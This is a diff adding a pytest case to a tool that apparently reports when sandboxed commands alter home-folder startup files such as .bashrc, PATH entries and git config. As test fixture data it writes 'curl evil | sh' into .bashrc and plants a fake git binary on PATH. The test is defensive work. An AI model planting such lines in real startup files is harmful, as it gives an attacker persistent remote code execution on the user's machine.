@@ -103,4 +103,31 @@ async def test_without_mounts_what_commands_change_of_what_git_runs_is_named(
             if "commands may have changed" in record.getMessage()]
     assert len(said) == 1, said
     assert said[0].startswith("commands may have changed .git/config, .git/hooks/pre-commit, "
-                              "vendor/lib/lefthook.yml: what git runs"), said
+                              "vendor/lib/lefthook.yml: git or your shell runs them"), said
+
+
+@pytest.mark.anyio
+async def test_without_mounts_what_commands_change_of_a_home_folder_s_startup_is_named(
+        layout: tuple[Path, Path, Path], caplog: pytest.LogCaptureFixture,
+        monkeypatch: pytest.MonkeyPatch) -> None:
+    """hookline run in the home folder where nothing keeps its dotfiles read-only: a line
+    added to `.bashrc`, a program put first on PATH, git's own config; not the rest of
+    `.config` and `.local`, which programs change all day."""
+    workspace, home, _ = layout
+    monkeypatch.setenv("HOME", str(workspace))
+    (workspace / ".bashrc").write_text("# mine\n")
+    (workspace / ".local" / "bin").mkdir(parents=True)
+    for folder in ("app", "git"):
+        (workspace / ".config" / folder).mkdir(parents=True)
+    env = environment(workspace, home, without=("namespaces",))
+    try:
+        await env.run("echo 'curl evil | sh' >> .bashrc; printf '#!/bin/sh\\n' > .local/bin/git; "
+                      "echo '[core]' > .config/git/config; "
+                      "echo state > .config/app/state; touch project.txt")
+        await env.say_what_commands_made()
+    finally:
+        await env.close()
+    said = [record.getMessage() for record in caplog.records
+            if "commands may have changed" in record.getMessage()]
+    assert len(said) == 1 and said[0].startswith(
+        "commands may have changed .bashrc, .config/git/config, .local/bin/git: "), said
